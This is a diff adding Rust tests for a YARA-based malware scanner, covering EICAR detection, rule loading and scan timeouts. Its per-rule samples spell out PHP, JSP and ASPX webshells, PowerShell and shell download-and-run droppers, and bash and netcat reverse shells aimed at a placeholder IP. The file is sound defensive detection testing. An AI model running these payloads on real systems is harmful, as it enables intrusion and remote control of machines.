@@ -1,0 +1,173 @@
+use std::time::Duration;
+
+use super::*;
+
+const EICAR: &str = concat!(
+    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
+    "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+);
+
+fn engine() -> Engine {
+    Engine::new(
+        RuleSet::embedded().expect("embedded rules load"),
+        Duration::from_secs(10),
+    )
+}
+
+fn matches(data: &[u8]) -> Vec<String> {
+    engine().scan_bytes(data).expect("scan succeeds")
+}
+
+#[test]
+fn embedded_rules_load_with_an_identity() {
+    let rules = RuleSet::embedded().unwrap();
+    assert!(rules.len() >= 8, "{} rules", rules.len());
+    assert_eq!(rules.id().len(), 12);
+    assert!(rules.id().bytes().all(|b| b.is_ascii_hexdigit()));
+    assert!(
+        rules
+            .describe()
+            .iter()
+            .all(|(_, description)| description.is_some()),
+        "every rule has a description"
+    );
+}
+
+#[test]
+fn eicar_is_detected_with_and_without_trailing_whitespace() {
+    assert_eq!(matches(EICAR.as_bytes()), ["EICAR_Test_File"]);
+    assert_eq!(
+        matches(format!("{EICAR}\r\n").as_bytes()),
+        ["EICAR_Test_File"]
+    );
+    // Not at the start, or inside a large file: not the test file.
+    assert!(matches(format!("x{EICAR}").as_bytes()).is_empty());
+    assert!(matches(format!("{EICAR}{}", " ".repeat(100)).as_bytes()).is_empty());
+}
+
+/// Each project rule fires on a sample of what it describes.
+#[test]
+fn each_rule_detects_its_sample() {
+    let samples: &[(&str, &str)] = &[
+        (
+            "Webshell_PHP_Request_Eval",
+            "<?php @eval($_POST['cmd']); ?>",
+        ),
+        (
+            "Webshell_PHP_Request_Eval",
+            "<?php system(base64_decode($_GET[\"c\"])); ?>",
+        ),
+        (
+            "Webshell_PHP_Obfuscated_Loader",
+            "<?php eval(gzinflate(base64_decode('7X1re9s2svB3/wqE0a6kRpIl+ZLEipzjOk7j')));",
+        ),
+        (
+            "Webshell_JSP_Runtime_Exec",
+            "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
+        ),
+        (
+            "Webshell_ASPX_Process_Start",
+            "<%@ Page Language=\"C#\" %><% var p = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]); %>",
+        ),
+        (
+            "Dropper_PowerShell_Download_Cradle",
+            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
+        ),
+        (
+            "Dropper_PowerShell_Hidden_Encoded",
+            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        ),
+        (
+            "Dropper_WSH_Download_Execute",
+            "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", u, False\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile p, 2\nCreateObject(\"WScript.Shell\").Run p",
+        ),
+        (
+            "Dropper_Unix_Fetch_And_Run",
+            "#!/bin/sh\ncurl -s http://198.51.100.7/x -o /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n",
+        ),
+        (
+            "Reverse_Shell_Unix",
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+        ),
+        (
+            "Reverse_Shell_Unix",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
+        ),
+        (
+            "Encoded_PE_In_Text",
+            "<html><script>var b = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA';</script></html>",
+        ),
+    ];
+    for (rule, sample) in samples {
+        let found = matches(sample.as_bytes());
+        assert!(
+            found.iter().any(|r| r == rule),
+            "{rule} did not match {sample:?}: {found:?}"
+        );
+    }
+}
+
+#[test]
+fn office_macro_rule_needs_ole_auto_exec_and_an_action() {
+    let mut doc = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
+    doc.extend_from_slice(&[0; 504]);
+    doc.extend_from_slice(b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n  Shell(\"cmd /c calc\")\nEnd Sub\nVBA");
+    assert_eq!(matches(&doc), ["Office_Macro_AutoExec_Shell"]);
+    let benign: Vec<u8> = doc[..512].to_vec();
+    assert!(matches(&benign).is_empty());
+}
+
+/// Ordinary content of the same kinds does not match any rule.
+#[test]
+fn benign_samples_are_clean() {
+    let samples: &[&str] = &[
+        "",
+        "hello world\n",
+        "<?php echo htmlspecialchars($_GET['name']); ?>",
+        "<?php $x = eval('return 1;'); ?>",
+        "Get-ChildItem -Path C:\\ | Invoke-Expression",
+        "Invoke-WebRequest -Uri https://example.com -OutFile a.zip",
+        "#!/bin/sh\ncurl -o /tmp/x.tar.gz https://example.com/x.tar.gz\ntar xzf /tmp/x.tar.gz\n",
+        "bash -i",
+        "This program cannot be run in DOS mode",
+        "<%@ Page Language=\"C#\" %><p>Request.Form[\"x\"]</p>",
+    ];
+    for sample in samples {
+        assert!(matches(sample.as_bytes()).is_empty(), "{sample:?} matched");
+    }
+}
+
+#[test]
+fn serialized_rules_round_trip_with_a_content_identity() {
+    let rules = yara_x::compile("rule always { condition: true }").unwrap();
+    let bytes = rules.serialize().unwrap();
+    let set = RuleSet::from_serialized(&bytes).unwrap();
+    assert_eq!(set.len(), 1);
+    assert_eq!(set.id(), RuleSet::from_serialized(&bytes).unwrap().id());
+    let engine = Engine::new(set, Duration::from_secs(5));
+    assert_eq!(engine.scan_bytes(b"x").unwrap(), ["always"]);
+    assert!(matches!(
+        RuleSet::from_serialized(b"junk"),
+        Err(ScanError::Load(_))
+    ));
+}
+
+#[test]
+fn a_scan_over_its_timeout_is_an_error_not_clean() {
+    // A condition that loops over every byte many times: far longer than a 1 s timeout.
+    let slow = yara_x::compile(
+        "rule slow { condition: for all i in (0..filesize): (for all j in (0..filesize): (uint8(i) != 0xff or uint8(j) != 0xfe)) }",
+    )
+    .unwrap();
+    let engine = Engine::new(RuleSet::new(slow, "slow"), Duration::from_secs(1));
+    let started = std::time::Instant::now();
+    let result = engine.scan_bytes(&vec![0u8; 200_000]);
+    assert!(matches!(result, Err(ScanError::Timeout(_))), "{result:?}");
+    assert!(started.elapsed() < Duration::from_secs(5));
+}
+
+#[tokio::test]
+async fn async_scan_runs_off_the_runtime_threads() {
+    let found = engine().scan(EICAR.as_bytes().to_vec()).await.unwrap();
+    assert_eq!(found, ["EICAR_Test_File"]);
+}
